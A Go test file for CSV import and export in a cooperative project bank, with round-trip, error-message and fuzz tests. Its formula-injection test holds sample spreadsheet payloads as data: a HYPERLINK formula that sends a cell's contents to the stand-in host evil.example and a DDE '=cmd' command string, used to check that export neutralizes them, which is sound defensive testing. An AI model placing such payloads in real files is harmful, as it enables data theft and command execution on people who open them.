package store

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"

	"github.com/afkarlab/afkar/bank"
	"github.com/afkarlab/afkar/bank/validation"
)

// csvFields drops what a CSV file does not carry: history, award, version.
func csvFields(ideas []Idea) []bank.Project {
	out := make([]bank.Project, len(ideas))
	for i, idea := range ideas {
		p := idea.Project
		p.History, p.Award = nil, nil
		out[i] = p
	}
	return out
}

func TestIdeasCSVRoundTrip(t *testing.T) {
	b := fullBank(t)
	var buf bytes.Buffer
	require.NoError(t, b.ExportIdeasCSV(t.Context(), &buf))

	// Into a new bank, with the cooperatives first.
	nb := New(Config{Clock: newClock().Now})
	var coops bytes.Buffer
	require.NoError(t, b.ExportCooperativesCSV(t.Context(), &coops))
	n, err := nb.ImportCooperativesCSV(t.Context(), &coops)
	require.NoError(t, err)
	require.Equal(t, 2, n)
	if diff := cmp.Diff(must(b.Cooperatives(t.Context())), must(nb.Cooperatives(t.Context()))); diff != "" {
		t.Errorf("cooperatives (-want +got):\n%s", diff)
	}
	n, err = nb.ImportIdeasCSV(t.Context(), bytes.NewReader(buf.Bytes()), "migration")
	require.NoError(t, err)
	require.Equal(t, 3, n)
	if diff := cmp.Diff(csvFields(must(b.Ideas(t.Context()))), csvFields(must(nb.Ideas(t.Context())))); diff != "" {
		t.Errorf("ideas (-want +got):\n%s", diff)
	}
	// The import is recorded: one change from outside the bank.
	got, err := nb.Get(t.Context(), "AGA-05")
	require.NoError(t, err)
	require.Len(t, got.History, 1)
	require.Equal(t, bank.Transition{To: bank.StatusAdopted, At: got.History[0].At, By: "migration", Note: "imported from CSV line 3", Cooperative: "coop-7"}, got.History[0])

	// Exporting the new bank gives the same file.
	var again bytes.Buffer
	require.NoError(t, nb.ExportIdeasCSV(t.Context(), &again))
	require.Equal(t, buf.String(), again.String())
}

// TestFormulaInjection: cells a spreadsheet would run come out quoted, and
// read back as they were. (A title cannot start with a tab: it holds no
// control character; internal/csvsafe tests tabs.)
func TestFormulaInjection(t *testing.T) {
	titles := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+212 600 000 000",
		"-2 for the price of one",
		"@SUM(A1:A9)",
		"'=already quoted",
		"''=twice quoted",
		"'plain quote",
		"a=b is harmless",
		"تعاونية =",
	}
	b := newBank(t)
	for i, title := range titles {
		p := idea("X-"+string(rune('a'+i)), title, at("09:00"))
		p.Tags = []string{"=cmd|' /C calc'!A0"}
		_, err := b.Add(t.Context(), p, "test")
		require.NoError(t, err)
	}
	var buf bytes.Buffer
	require.NoError(t, b.ExportIdeasCSV(t.Context(), &buf))
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	wantCell := map[string]string{
		titles[0]: `'` + titles[0],
		titles[1]: `'+212 600 000 000`,
		titles[2]: `'-2 for the price of one`,
		titles[3]: `'@SUM(A1:A9)`,
		titles[4]: `''=already quoted`,
		titles[5]: `'''=twice quoted`,
		titles[6]: `'plain quote`, // no formula after the quote: as is
		titles[7]: `a=b is harmless`,
		titles[8]: `تعاونية =`,
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "cell %q starts a formula", cell)
		}
		i := int(row[0][2] - 'a')
		require.Equal(t, wantCell[titles[i]], row[1])
		require.Equal(t, `'=cmd|' /C calc'!A0`, row[15], "tags")
	}
	ps, err := ReadIdeasCSV(bytes.NewReader(buf.Bytes()))
	require.NoError(t, err)
	for i, p := range ps {
		require.Equal(t, titles[i], p.Title, "read back as written")
		require.Equal(t, []string{"=cmd|' /C calc'!A0"}, p.Tags)
	}
}

func TestImportIdeasCSVErrorsNameTheLine(t *testing.T) {
	tests := []struct {
		name string
		csv  string
		want []string // LineError.Error() of each problem
	}{
		{"no id column", "title\nx\n", []string{"line 1: no id column"}},
		{"unknown and repeated columns", "id,titel,id\n", []string{
			`line 1: titel: unknown column "titel" (expected some of id, title, summary, region, sector, stage, cooperative, carrier_name, carrier_kind, carrier_age_band, carrier_members, carrier_email, budget_mad, expected_jobs, beneficiaries, tags, attributes, submitted_at, status, adopter)`,
			`line 1: id: repeated column "id"`}},
		{"cells of the wrong type", "id,title,region,sector,cooperative,stage,budget_mad,submitted_at,attributes,status\n" +
			"AGA-1,t,souss-massa,argan,coop-042,twelve,12;5,yesterday,[1],won\n", []string{
			`line 2: stage: expected a whole number of 0 or more, found "twelve"`,
			`line 2: budget_mad: "12;5" is not a decimal: unexpected ";"`,
			`line 2: submitted_at: "yesterday" is not a RFC 3339 time, such as 2025-04-16T09:30:00Z`,
			`line 2: attributes: expected a JSON object of strings, such as {"women_led":"yes"}`,
			`line 2: status: expected one of submitted, eligible, ineligible, shortlisted, awarded, adopted, archived, found "won"`}},
		{"rules, duplicates and references", "id,title,region,sector,cooperative\n" +
			"AGA-1,Amlou,souss-massa,argan,coop-042\n" +
			",,,,\n" + // a blank row is skipped
			"AGA-1,Again,souss-massa,argan,coop-042\n" +
			"AGA-2,,casablanca,argan,coop-9\n" +
			"AGA-3,\"multi\nline\",souss-massa,argan,coop-042\n" +
			"AGA-4,t,souss-massa,argan,coop-042,extra\n", []string{
			"line 4: id: idea AGA-1 is also on line 2",
			"line 5: title: title is a required field",
			"line 5: region: region must be the code of one of Morocco's 12 regions, such as souss-massa",
			"line 5: cooperative: cooperative names cooperative coop-9, which is not in the bank",
			"line 6: title: title must be visible text, without control characters (escape sequences, line breaks) or bidirectional controls",
			"line 8: malformed CSV: wrong number of fields (column 1)"}},
		{"bad quoting", "id,title\n\"AGA-1,x\n", []string{`line 2: malformed CSV: extraneous or missing " in quoted-field (column 10)`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := newBank(t)
			n, err := b.ImportIdeasCSV(t.Context(), strings.NewReader(tt.csv), "test")
			require.Equal(t, 0, n)
			var les LineErrors
			require.ErrorAs(t, err, &les)
			var got []string
			for _, e := range les {
				got = append(got, e.Error())
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("problems (-want +got):\n%s", diff)
			}
			require.Equal(t, 0, must(b.Len(t.Context())), "all or nothing")
		})
	}
}

func TestImportKeepsValidationLanguages(t *testing.T) {
	b := newBank(t)
	_, err := b.ImportIdeasCSV(t.Context(), strings.NewReader("id,title,region,sector,cooperative\nA1,,souss-massa,argan,coop-042\n"), "test")
	var ve validation.Error
	require.True(t, errors.As(err, &ve))
	require.Equal(t, "title est un champ obligatoire", ve.In("fr"))
}

func TestImportCooperativesCSV(t *testing.T) {
	b := newBank(t)
	n, err := b.ImportCooperativesCSV(t.Context(), strings.NewReader("\ufeffid,name,region,sector,founded,members,women_members\n"+
		"coop-1,Tifawin,souss-massa,argan,2019-03-08,9,9\n"+
		"coop-2,Amal,oriental,handicrafts,08/03/2019,5,6\n"+
		"coop-042,Dup,oriental,argan,,,\n"))
	require.Equal(t, 0, n)
	var les LineErrors
	require.ErrorAs(t, err, &les)
	var got []string
	for _, e := range les {
		got = append(got, e.Error())
	}
	require.Equal(t, []string{
		`line 3: founded: "08/03/2019" is not a date, such as 2019-03-08`,
		"line 4: id: cooperative coop-042: already in the bank",
	}, got)
	n, err = b.ImportCooperativesCSV(t.Context(), strings.NewReader("id,name,region,sector\ncoop-1,Tifawin,souss-massa,argan\n"))
	require.NoError(t, err)
	require.Equal(t, 1, n)
}

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=x", "''=x"},
		{"'x", "'x"},
		{"x", "x"},
		{"", ""},
		{"'", "'"},
	}
	for _, tt := range tests {
		require.Equal(t, tt.want, Neutralize(tt.in), "Neutralize(%q)", tt.in)
		require.Equal(t, tt.in, Restore(Neutralize(tt.in)), "Restore(Neutralize(%q))", tt.in)
	}
}

// FuzzNeutralize: a neutralised cell never starts a formula, and restoring
// gives it back.
func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''", "'", "x", "-"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := Neutralize(s)
		if n != "" && strings.IndexByte("=+-@\t\r", n[0]) >= 0 {
			t.Fatalf("Neutralize(%q) = %q starts a formula", s, n)
		}
		if got := Restore(n); got != s {
			t.Fatalf("Restore(Neutralize(%q)) = %q", s, got)
		}
	})
}

// FuzzReadIdeasCSV checks that reading never panics, that every error
// names a line within the input, and that what reads writes and reads
// back the same.
func FuzzReadIdeasCSV(f *testing.F) {
	var buf bytes.Buffer
	require.NoError(f, fullBank(f).ExportIdeasCSV(context.Background(), &buf))
	f.Add(buf.String())
	f.Add("id,title\nA,\"=x\"\n")
	f.Add("id,budget_mad,stage\nA,1e9999,-1\n")
	f.Add("id,attributes\nA,\"{\"\"a\"\":\"\"b\"\"}\"\n")
	f.Add("\ufeffid\r\nA\r\n")
	f.Fuzz(func(t *testing.T, data string) {
		ps, err := ReadIdeasCSV(strings.NewReader(data))
		if err != nil {
			var les LineErrors
			if !errors.As(err, &les) || len(les) == 0 {
				t.Fatalf("error %v is not a list of line errors", err)
			}
			lines := 1 + strings.Count(data, "\n")
			for _, e := range les {
				if e.Line < 1 || e.Line > lines {
					t.Fatalf("line %d outside 1..%d: %v", e.Line, lines, e)
				}
			}
			return
		}
		var out bytes.Buffer
		if err := WriteIdeasCSV(&out, ps); err != nil {
			t.Fatal(err)
		}
		again, err := ReadIdeasCSV(&out)
		if err != nil {
			t.Fatalf("a written file does not read: %v\n%s", err, out.String())
		}
		if diff := cmp.Diff(normalizeCSV(ps), normalizeCSV(again)); diff != "" {
			t.Fatalf("round trip (-want +got):\n%s", diff)
		}
	})
}

// normalizeCSV writes what a CSV file cannot tell apart the same way: an
// empty carrier and none, empty tags and none, spaces around tags.
func normalizeCSV(ps []bank.Project) []bank.Project {
	out := make([]bank.Project, len(ps))
	for i, p := range ps {
		p = p.Clone()
		if p.Carrier != nil && *p.Carrier == (bank.Carrier{}) {
			p.Carrier = nil
		}
		if len(p.Attributes) == 0 {
			p.Attributes = nil
		}
		out[i] = p
	}
	return out
}
